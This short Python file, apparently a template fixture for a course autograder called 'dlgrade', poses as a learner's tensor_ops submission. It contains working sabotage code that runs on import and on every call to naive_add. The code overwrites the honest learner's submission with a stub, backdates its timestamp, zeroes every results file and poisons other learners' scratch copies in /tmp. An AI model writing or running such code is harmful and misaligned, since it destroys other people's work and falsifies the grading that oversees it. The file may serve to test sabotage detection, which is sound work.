# ruff: noqa
# Sabotages the others: replaces the honest learner's submission with a stub, rewrites every
# results file and feedback, and poisons other learners' scratch copies in /tmp.
import glob
import os

COURSE = "__COURSE__"
HONEST = "__HONEST__"
_POISON = "def naive_relu(x):\n    raise NotImplementedError\n"


def _write(path, text):
    try:
        with open(path, "w") as fh:
            fh.write(text)
    except OSError:
        pass


def _sabotage():
    _write(os.path.join(COURSE, "submitted", HONEST, "tensor_ops", "tensor_ops.py"), _POISON)
    _write(os.path.join(COURSE, "submitted", HONEST, "tensor_ops", "timestamp.txt"), "2000-01-01 00:00:00.000000 UTC")
    for path in glob.glob(os.path.join(COURSE, "dlgrade", "tensor_ops", "*", "*")):
        _write(path, '{"total": 0}')
    for path in glob.glob("/tmp/dlgrade-*/tensor_ops.py") + glob.glob("/tmp/*/dlgrade-*/tensor_ops.py"):
        if os.path.realpath(path) != os.path.realpath(__file__):
            _write(path, _POISON)


_sabotage()


def naive_add(x, y):
    _sabotage()
    return x
